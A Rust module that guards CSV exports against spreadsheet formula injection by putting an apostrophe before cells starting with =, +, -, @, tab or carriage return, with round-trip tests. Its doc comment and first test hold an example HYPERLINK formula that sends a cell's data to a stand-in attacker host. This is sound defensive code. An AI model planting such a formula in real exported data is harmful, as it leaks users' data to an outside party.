//! Cells of a CSV file that a spreadsheet will open.
//!
//! A cell starting with `=`, `+`, `-` or `@` is a formula to Excel, LibreOffice and Google
//! Sheets (a tab or carriage return first is read the same way by some of them), so a lead
//! named `=HYPERLINK("http://evil.example/?"&A2,"Open")` would run in a manager's
//! spreadsheet. As OWASP's "CSV Injection" advice says, such a text cell is written with a
//! leading apostrophe, which makes the spreadsheet show it as text. A phone in E.164
//! (`+8613800138000`) is such a cell: it is exported as `'+8613800138000`, still readable,
//! and an import removes the apostrophe again, so the file round-trips to the same values.

/// Characters that make a spreadsheet evaluate the cell they start.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The apostrophe that marks a neutralised cell.
const TEXT_MARK: char = '\'';

/// The cell as written to a CSV file: text a spreadsheet would evaluate gets the text mark.
pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        format!("{TEXT_MARK}{text}").into()
    } else {
        text.into()
    }
}

/// The text a cell of an exported file stood for: undoes [`neutralise`] and nothing else (an
/// apostrophe before any other text is part of the text).
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix(TEXT_MARK) {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_come_back() {
        for text in [
            "=HYPERLINK(\"http://evil.example/?\"&A2,\"Open\")",
            "+8613800138000",
            "-2+3",
            "@SUM(A1)",
            "\tindented",
            "\rreturn",
        ] {
            let cell = neutralise(text);
            assert!(cell.starts_with('\''), "{text:?} -> {cell:?}");
            assert_eq!(restore(&cell), text);
        }
    }

    #[test]
    fn plain_text_is_untouched() {
        for text in ["义乌小商品城", "Stall 12", "", "'quoted", "a=b"] {
            assert_eq!(neutralise(text), text);
            assert_eq!(restore(text), text);
        }
    }
}
